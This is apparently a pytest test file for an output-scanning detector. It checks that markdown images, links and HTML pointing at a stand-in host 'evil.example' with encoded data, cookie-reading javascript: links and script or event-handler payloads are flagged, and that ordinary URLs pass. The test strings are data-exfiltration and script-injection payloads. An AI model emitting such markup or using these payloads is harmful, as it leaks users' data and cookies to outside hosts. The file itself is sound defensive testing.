"""Addresses that carry data away are found, in images, links and markup; plain ones are not."""

from __future__ import annotations

import pytest

from gateway.detectors._scan import Scanner
from gateway.detectors.output import carries

DATA = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ"


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> Scanner:
    return Scanner({"output": {}}, cache_dir=tmp_path_factory.mktemp("cache"))


@pytest.fixture(scope="module")
def listed(tmp_path_factory: pytest.TempPathFactory) -> Scanner:
    options = {"output": {"hosts": ["example.com"]}}
    return Scanner(options, cache_dir=tmp_path_factory.mktemp("cache"))


@pytest.mark.parametrize(
    ("text", "note"),
    [
        (f"![x](https://evil.example/p.png?d={DATA})", "image"),
        ("![x](http://evil.example/log?q=the%20user%20asked%20about%20his%20debts)", "image"),
        ("![x](//evil.example/?q=[QUERY])", "image"),
        (f"![a b c](<https://evil.example/{DATA}{DATA}1>)", "image"),
        (f"[click here](https://evil.example/c?token={DATA})", "link"),
        (f"![logo][1]\n\n[1]: https://evil.example/i?x={DATA}", "definition"),
        (f'<img alt="" src="https://evil.example/i.gif?x={DATA}">', "html_image"),
        ("[safe](javascript:fetch(document.cookie))", "script_link"),
        ("[safe](data:text/html;base64,PHNjcmlwdD4=)", "script_link"),
        ('<a href="javascript:alert(1)">a</a>', "script_href"),
        ("<img src=x onerror=alert(1)>", "handler"),
        ("<svg/onload=alert(1)>", "handler"),
        ('<iframe src="https://evil.example"></iframe>', "frame"),
        ("<script>alert(1)</script>", "script"),
    ],
)
def test_what_harms_where_it_is_shown_is_found(scanner: Scanner, text: str, note: str) -> None:
    found = scanner.scan(f"Here you are: {text} and more.")
    assert note in {finding.note for finding in found}
    assert {finding.category for finding in found} == {"IMPROPER_OUTPUT"}


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://example.com/charts/2024/revenue-by-quarter.png)",
        "[docs](https://docs.example.com/en/latest/how-to-write-a-very-long-page-name.html#top)",
        "[search](https://example.com/search?q=weather&lang=en&page=2)",
        "[shop](https://example.com/a?utm_source=newsletter&utm_medium=email)",
        "see https://example.com/?q=hello",
        "an array like a[0](x) and a list ![]",
        "`<b>bold</b>` and a < b > c",
    ],
)
def test_plain_addresses_are_left_alone(scanner: Scanner, text: str) -> None:
    assert scanner.scan(text) == []


@pytest.mark.parametrize(
    ("address", "found"),
    [
        (f"https://img.example.com/p?d={DATA}", False),
        ("https://example.com.evil.test/a.png", True),
        ("https://other.test/a.png", True),
        ("https://user@EXAMPLE.com:8080/a.png", False),
    ],
)
def test_only_listed_hosts_are_shown(listed: Scanner, address: str, found: bool) -> None:
    assert bool(listed.scan(f"![x]({address})")) is found


@pytest.mark.parametrize(
    ("rest", "data"),
    [
        ("/a/b.png", False),
        ("/wiki/The_Lord_of_the_Rings_(film_series)", False),
        ("/p/3f2504e0-4f89-11d3-9a0c-0305e82c3301", False),
        (f"/p?d={DATA}", True),
        ("/collect/68656c6c6f20776f726c6420746869732069732061207365637265742074657874", True),
    ],
)
def test_what_counts_as_data(rest: str, data: bool) -> None:
    assert carries(rest) is data


@pytest.mark.parametrize(
    "piece", ["![", "](", "<img ", "<img src=//", "]: ", "![](http://a/", "<svg "]
)
def test_many_beginnings_end(scanner: Scanner, piece: str) -> None:
    scanner.scan(piece * (40_000 // len(piece)))
